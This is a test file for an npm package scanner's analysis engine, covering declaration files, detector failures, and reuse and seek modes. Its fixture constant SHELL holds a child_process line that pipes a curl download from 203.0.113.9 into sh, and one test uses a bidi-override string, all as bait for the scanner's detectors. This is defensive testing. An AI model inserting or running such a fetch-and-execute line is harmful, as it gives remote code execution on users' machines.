import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { packageTgz } from '../../test/helpers/tarball.js';
import { DETECTORS } from '../detectors/index.js';
import { analyzePackage, isDeclarationFile } from './engine.js';
import type { Detector } from './kit.js';

const SHELL = "require('child_process').exec('curl -s http://203.0.113.9/x | sh');\n";
const analyze = (files: Record<string, string>, detectors: readonly Detector[] = DETECTORS) =>
  analyzePackage({ name: 'p', version: '1.0.0', tarball: packageTgz(files) }, { detectors });
const types = async (files: Record<string, string>) =>
  new Set((await analyze(files)).alerts.map((a) => a.type));

describe('engine', () => {
  it('names declaration files as TypeScript does', () => {
    for (const p of ['index.d.ts', 'a/b.d.mts', 'c.d.cts', 'styles.d.css.ts'])
      assert.equal(isDeclarationFile(p), true, p);
    for (const p of ['index.ts', 'd.ts', 'a.dts', 'index.js', 'x.d.js'])
      assert.equal(isDeclarationFile(p), false, p);
  });

  it('treats declaration files as types until something loads one at run time', async () => {
    const manifest = '{"name":"p","version":"1.0.0","types":"types/index.d.ts"}';
    // Code in a declaration file that nothing loads: no module loader reaches it.
    const idle = await types({ 'package.json': manifest, 'types/index.d.ts': SHELL });
    assert.equal(idle.has('shellAccess'), false);
    // Loaded by a module specifier, named by a string (a computed require), or an entry point.
    const loaders: Record<string, string>[] = [
      { 'index.js': "require('./types/index.d.ts');\n" },
      {
        'index.js': "const f = './types/' + 'index.d.ts'; const m = ['x', './types/index.d.ts'];\n",
      },
      { 'package.json': '{"name":"p","version":"1.0.0","main":"types/index.d.ts"}' },
      {
        'package.json':
          '{"name":"p","version":"1.0.0","exports":{".":{"default":"./types/index.d.ts"}}}',
      },
    ];
    for (const extra of loaders) {
      const got = await types({ 'package.json': manifest, 'types/index.d.ts': SHELL, ...extra });
      assert.equal(got.has('shellAccess'), true, JSON.stringify(extra));
    }
    // The `types` conditions of exports are for the compiler.
    const typed = await types({
      'package.json':
        '{"name":"p","version":"1.0.0","exports":{".":{"types":"./types/index.d.ts","default":"./index.js"}}}',
      'types/index.d.ts': SHELL,
      'index.js': 'module.exports = 1;\n',
    });
    assert.equal(typed.has('shellAccess'), false);
  });

  it('still runs the text detectors on declaration files', async () => {
    const got = await types({
      'package.json': '{"name":"p","version":"1.0.0"}',
      'index.d.ts': 'export declare const ok: "\u202eevil";\n',
    });
    assert.equal(got.has('bidi'), true);
  });

  it('records a throwing detector against its file and goes on', async () => {
    const broken: Detector = {
      meta: {
        id: 'usesEval',
        version: 1,
        category: 'supplyChainRisk',
        severity: 'middle',
        title: 'Throws',
        description: 'test double that throws',
      },
      js() {
        throw new Error('boom');
      },
    };
    const result = await analyze({ 'a.js': 'eval(x);\n', 'b.js': SHELL }, [broken, ...DETECTORS]);
    assert.deepEqual(
      result.failures.map((f) => [f.detector, f.file, f.message]),
      [
        ['usesEval', 'a.js', 'boom'],
        ['usesEval', 'b.js', 'boom'],
      ],
    );
    assert.ok(result.alerts.some((a) => a.type === 'shellAccess'));
  });
});

describe('engine reuse (the version before a target)', () => {
  it('skips code files whose path and content are unchanged, and lists them', async () => {
    const files = {
      'package.json': '{"name":"p","version":"1.0.0"}',
      'same.js': SHELL,
      'changed.js': "require('https').get('https://example.invalid');\n",
    };
    // Hashes and sketches are recorded only for a version that will be compared.
    assert.equal(
      (await analyze(files)).inventory!.some((f) => f.hash !== undefined),
      false,
    );
    const full = await analyzePackage(
      { name: 'p', version: '1.0.0', tarball: packageTgz(files), history: true },
      { detectors: DETECTORS },
    );
    assert.ok(full.inventory!.find((f) => f.path === 'same.js')!.sketch!.length > 0);
    const same = full.inventory!.find((f) => f.path === 'same.js')!;
    const partial = await analyzePackage(
      {
        name: 'p',
        version: '1.0.0',
        tarball: packageTgz(files),
        reuse: [
          ['same.js', same.hash!],
          ['changed.js', '0'.repeat(40)],
        ],
      },
      { detectors: DETECTORS },
    );
    assert.deepEqual(partial.reused, ['same.js']);
    // Its code alerts are not raised again (package-level checks, which see the file list, still run).
    assert.equal(
      partial.alerts.some((a) => a.type === 'shellAccess' || a.type === 'suspiciousString'),
      false,
    );
    assert.ok(partial.alertFiles!.networkAccess!.includes('changed.js'));
    assert.ok(full.alertFiles!.shellAccess!.includes('same.js'));
  });

  it('sketches only the files the other version has at the same path (the only ones compared)', async () => {
    const files = {
      'package.json': '{"name":"p","version":"1.0.0"}',
      'changed.js': 'module.exports = function changed() { return 1; };\n',
      'gone.js': 'module.exports = function goneInTheNewVersion() { return 2; };\n',
    };
    const got = await analyzePackage(
      {
        name: 'p',
        version: '1.0.0',
        tarball: packageTgz(files),
        reuse: [['changed.js', '0'.repeat(40)]],
      },
      { detectors: DETECTORS },
    );
    const entry = (path: string) => got.inventory!.find((f) => f.path === path)!;
    assert.ok(entry('changed.js').sketch!.length > 0);
    assert.equal(entry('gone.js').sketch, undefined);
    assert.notEqual(entry('gone.js').hash, undefined, 'still hashed: the file list is complete');
  });
});

describe('engine: seek (the version before a target)', () => {
  const files = {
    'package.json': '{"name":"p","version":"1.0.0"}',
    'a.js': 'const env = process.env.HOME;\n',
    'b.js': SHELL,
    'c.js': "require('http').get('http://203.0.113.9/');\n",
  };
  const seek = (groups: string[][], hinted: Record<string, string[]> = {}) =>
    analyzePackage(
      {
        name: 'p',
        version: '1.0.0',
        tarball: packageTgz(files),
        seek: { groups, files: hinted },
      },
      { detectors: DETECTORS },
    );

  it('with nothing sought, runs no detector but keeps the full inventory', async () => {
    const full = await analyzePackage(
      { name: 'p', version: '1.0.0', tarball: packageTgz(files), history: true },
      { detectors: DETECTORS },
    );
    const none = await seek([]);
    assert.deepEqual(none.alerts, []);
    assert.deepEqual(none.inventory, full.inventory, 'same paths, sizes, hashes and sketches');
    assert.deepEqual(none.manifest, full.manifest);
    assert.deepEqual(none.notices, full.notices);
  });

  it('stops once every group is found, reading the hinted files first', async () => {
    const got = await seek([['shellAccess']], { shellAccess: ['b.js'] });
    const found = new Set(got.alerts.map((a) => a.type));
    assert.equal(found.has('shellAccess'), true);
    assert.equal(found.has('envVars'), false, 'a.js was not analysed');
    assert.equal(found.has('networkAccess'), false, 'c.js was not analysed');
    assert.equal(got.inventory?.find((f) => f.path === 'c.js')?.sketch?.length !== undefined, true);
  });

  it('reads every file when a group is never found, as a full analysis does', async () => {
    const got = await seek([['usesEval']]);
    const found = new Set(got.alerts.map((a) => a.type));
    for (const t of ['envVars', 'shellAccess', 'networkAccess'])
      assert.equal(found.has(t), true, t);
  });

  it('counts a file reused unchanged from the other version as raising what it raised there', async () => {
    const first = await analyzePackage(
      { name: 'p', version: '1.0.0', tarball: packageTgz(files), history: true },
      { detectors: DETECTORS },
    );
    const hash = first.inventory?.find((f) => f.path === 'b.js')?.hash;
    assert.ok(hash);
    const got = await analyzePackage(
      {
        name: 'p',
        version: '0.9.0',
        tarball: packageTgz(files),
        reuse: [['b.js', hash]],
        seek: { groups: [['shellAccess']], files: { shellAccess: ['b.js'] } },
      },
      { detectors: DETECTORS },
    );
    assert.deepEqual(got.reused, ['b.js']);
    const found = new Set(got.alerts.map((a) => a.type));
    for (const t of ['envVars', 'shellAccess', 'networkAccess'])
      assert.equal(found.has(t), false, `${t}: found before any file was analysed`);
  });
});
